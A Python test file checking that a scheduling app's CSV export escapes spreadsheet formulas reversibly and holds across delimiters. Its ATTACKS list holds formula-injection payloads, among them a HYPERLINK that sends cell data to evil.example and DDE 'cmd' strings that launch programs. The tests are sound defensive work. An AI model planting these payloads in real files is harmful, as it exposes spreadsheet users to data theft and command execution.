"""Text that is a formula to a spreadsheet: harmless in an export, and none of it lost."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scheduling.admin.export.formula_escape import escape_formulas, unescape_formulas

pytestmark = pytest.mark.one_database(name="postgresql")

SIGNS = "=+-@＝＋－＠"
# Names that somebody could give themselves, from OWASP's page and from reports of real attacks.
ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    "＝1+1",
    "Ana;=1+1",
    'Ana, "=1+1',
    "Ana\n=1+1",
)


def opened(cell: str, delimiter: str, program: str) -> list[str]:
    """The cells that a program which splits at ``program`` makes of a file's one cell."""
    file = io.StringIO(newline="")
    csv.writer(file, delimiter=delimiter).writerow(["first", cell, "last"])
    text = file.getvalue()
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=program)
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_harmless_and_can_be_had_back(attack: str) -> None:
    assert escape_formulas(attack) != attack
    assert unescape_formulas(escape_formulas(attack)) == attack


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("program", [",", ";", "\t"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_is_a_formula_whatever_a_program_splits_at(
    attack: str, delimiter: str, program: str
) -> None:
    for cell in opened(escape_formulas(attack), delimiter, program):
        assert not cell.lstrip(' \t\r\n"\u00a0\ufeff\u200f').startswith(tuple(SIGNS)), cell


ORDINARY = ("Ana Gil", "O'Brien", "Jean-Luc", "a@b.example", "2+2", "Niño, Ana", "مريم\u200f", "🎻")


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_names_stay_as_they_are(name: str) -> None:
    assert escape_formulas(name) == name


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n ;,'\"aé🎻\u200f\ufeff＝")))
def test_nothing_is_ever_lost(text: str) -> None:
    safe = escape_formulas(text)

    assert unescape_formulas(safe) == text
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
